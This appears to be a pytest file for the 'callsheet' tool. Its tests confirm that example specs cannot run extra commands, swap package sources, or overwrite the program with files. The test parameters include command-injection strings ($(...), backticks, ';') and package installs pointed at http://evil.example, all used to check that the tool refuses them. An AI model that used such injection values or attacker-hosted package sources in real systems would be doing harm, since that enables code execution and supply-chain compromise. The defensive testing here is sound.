"""What a spec names runs no other command, sets no option, and is laid in no other's place."""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from click.testing import CliRunner

from callsheet import languages
from callsheet.cli import main
from callsheet.clients import find, of_language
from callsheet.errors import CallsheetError, SpecError, UsageError
from callsheet.options import Options
from callsheet.sheet import sheet
from callsheet.spec.read import load
from callsheet.verify import kept, packages, runners
from callsheet.verify.bench import Bench
from callsheet.verify.cells import Cell, Level, Verdict
from support import HEAD

if TYPE_CHECKING:
    from collections.abc import Callable

    from callsheet.spec.model import Spec

EXAMPLE = "endpoints: {items: {request: POST /items, auth: key, examples: {it: {}}}}\n"


def written(folder: Path, text: str) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / "shop.yaml").write_text(text)
    return folder / "shop.yaml"


# --- Files beside a program -------------------------------------------------------------------


def sending(folder: Path, file: str, response: str = "") -> Spec:
    """A spec whose call sends a file of its folder."""
    (folder / file).parent.mkdir(parents=True, exist_ok=True)
    (folder / file).write_text("raise SystemExit('not the printed program')")
    answer = f", response: {{file: {response}}}" if response else ""
    example = f"it: {{body: {{file: {file}}}{answer}}}"
    return load(written(folder, HEAD + EXAMPLE.replace("it: {}", example)))


@pytest.mark.parametrize("language", [one.key for one in languages.every()])
def test_a_file_in_the_place_of_the_program_is_not_printed(language: str, tmp_path: Path) -> None:
    own = languages.get(language).runtime.file
    for file in (own, own.upper()):
        made = sheet(sending(tmp_path, file), Options(languages=(language,)))
        assert made.snippets["it"] == ()
        assert f"the program is saved as `{own}`, beside a file of that name" in str(made.warnings)
    (tmp_path / "a").mkdir()
    shutil.copy(tmp_path / own, tmp_path / "a" / own)
    spec = sending(tmp_path, "cat.bin", f"a/{own}")  # the answer would be written over the program
    assert sheet(spec, Options(languages=(language,))).snippets["it"] == ()


@pytest.mark.parametrize(
    "file", ["node_modules/axios/index.js", "NODE_MODULES/x", "built", "main.mjs"]
)
def test_no_file_of_a_spec_is_laid_into_what_a_link_leads_to(file: str, tmp_path: Path) -> None:
    spec = sending(tmp_path / "spec", file)
    library = tmp_path / "library"
    library.mkdir()
    bench = Bench(("node", "main.mjs"), "main.mjs", links={"node_modules": library})
    refused = pytest.raises(CallsheetError, match="would lie where the program needs a place")
    with refused, runners.laid("1", bench, {file: spec.root / file}):
        pass
    assert not list(library.iterdir())


def test_a_kept_program_stands_without_a_file_that_would_replace_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spec = sending(tmp_path / "spec", "node_modules/x.bin")
    library = tmp_path / "library"
    library.mkdir()
    bench = Bench(("node", "example.mjs"), "example.mjs", links={"node_modules": library})
    monkeypatch.setattr(runners, "prepare", lambda *_: bench)
    (snippet,) = sheet(spec, Options(languages=("node",))).snippets["it"]
    example = spec.endpoints[0].examples[0]
    cell = Cell("it", "node", "fetch", example.position, snippet, "", spec.root)
    verdict = Verdict(cell, "failed", Level.RENDERED, Level.MATCHED, "it failed")
    assert kept.keep([verdict], tmp_path / "kept") == 1
    assert not list(library.iterdir())
    assert (tmp_path / "kept/it/node.fetch/example.mjs").read_text() == snippet.text


# --- Commands ---------------------------------------------------------------------------------

INSTALLERS = [("python3", packages.python), ("node", packages.node), ("php", packages.php)]
INSTALLERS += [("ruby", packages.ruby), ("dotnet", packages.dotnet)]  # type: ignore[list-item]


@pytest.mark.parametrize(
    "install", [make for _, make in INSTALLERS], ids=[key for key, _ in INSTALLERS]
)
@pytest.mark.parametrize(
    "command",
    [
        *("touch {ran}", "sh -c 'touch {ran}'", "pip install acme; touch {ran}"),
        *(
            "pip install $(touch {ran})",
            "npm install acme\ntouch {ran}",
            "gem install `touch {ran}`",
        ),
        *("pip install --index-url=http://evil.example acme==1", "pip install -e git+https://a/b"),
        *("pip install -r requirements.txt", "pip install ./acme", "pip install https://a/b.whl"),
        *("npm install --ignore-scripts=false acme@1", "npm install user/repo", "npm install ../a"),
        *("npm install git+ssh://a/b", "npm run acme", "composer require -d / a/b:1"),
        *("composer require a", "gem install -s http://evil.example a", "gem install /a.gem"),
        *(
            "dotnet package add A --source http://evil.example",
            "dotnet run",
            "dotnet package add ../A",
        ),
    ],
)
def test_only_a_tools_own_command_is_run(
    install: Callable[[str], object], command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CALLSHEET_CACHE", str(tmp_path / "cache"))
    monkeypatch.setattr(packages, "_execute", lambda *_: pytest.fail("a command was run"))
    monkeypatch.setattr(packages, "_said", lambda *_: "1.0")
    with pytest.raises(UsageError, match=r"is not run; a library is installed by `.*NAME"):
        install(command.format(ran=tmp_path / "ran"))
    assert not (tmp_path / "ran").exists()
    assert not (tmp_path / "cache").exists()


def test_every_shipped_client_is_installed_by_such_a_command() -> None:
    commands = {
        (language.runtime.command, client.install)
        for language in languages.every()
        for client in of_language(language.key).values()
        if client.install
    }
    assert len(commands) >= 8
    for tool, command in commands:
        pattern = packages._COMMANDS.get(tool, ("implementation.*", ""))[0]  # noqa: SLF001
        assert re.fullmatch(pattern, command), command


def test_verify_says_what_it_does_not_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CALLSHEET_CACHE", str(tmp_path / ".cache"))
    sdk = (
        'sdks: {python/acme: {package: {name: acme, version: "1", install: "touch {name}"}, '
        'runtime: "3.10", imports: [import acme], client: "c = acme.C({key}, {base})", '
        "auth: {scheme: bearer}, calls: {items: {call: c.x, results: {'': '{}'}}}}}\n"
    )
    written(Path(), HEAD + sdk + EXAMPLE)
    words = ("verify", "shop.yaml", "--client", "python/acme", "--fence", "off")
    done = CliRunner().invoke(main, words)
    assert done.exit_code == 2, done.output
    assert "`touch acme` is not run; a library is installed by `pip install" in done.output
    assert not Path("acme").exists()
    assert not list(tmp_path.rglob("acme"))


def test_a_template_of_the_users_own_is_held_to_the_same(tmp_path: Path) -> None:
    (tmp_path / "python").mkdir()
    package = 'package: {name: "-e .", version: "1", install: "pip install {name}"}'
    head = f'{{#-\ntitle: X\n{package}\nruntime: "3.10"\n-#}}\n'
    (tmp_path / "python/x.py.jinja").write_text(head)
    with pytest.raises(SpecError) as raised:
        find(None, "python", "x", (tmp_path,))
    (found,) = raised.value.diagnostics
    assert (found.line, found.message) == (3, "`-e .` is not the name of a package")


def test_the_script_of_a_kept_program_quotes_all_that_is_not_ours(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spec = load(written(tmp_path, HEAD + EXAMPLE))
    (snippet,) = sheet(spec, Options(languages=("curl",))).snippets["it"]
    odd = "a b; touch ran $(touch ran) `touch ran` 'x' \"y\"\n"
    (tmp_path / odd).mkdir()
    bench = Bench(
        ("printf", "%s|", odd, "$HOME"),
        "example.sh",
        build=("printf", "%s|", odd),
        path=(tmp_path / odd,),
        environment={"PLACE": odd},
    )
    monkeypatch.setattr(runners, "prepare", lambda *_: bench)
    cell = Cell("it", "curl", "curl", spec.endpoints[0].position, snippet, "", spec.root)
    verdict = Verdict(cell, "failed", Level.RENDERED, Level.MATCHED, odd)
    kept.keep([verdict], tmp_path / odd)
    script = tmp_path / odd / "it/curl.curl/run.sh"
    done = subprocess.run([script], capture_output=True, text=True, check=True, cwd=tmp_path)
    assert done.stdout == f"{odd}|{odd}|$HOME|"
    assert not list(tmp_path.rglob("ran"))
    assert shlex.quote(odd) in script.read_text()
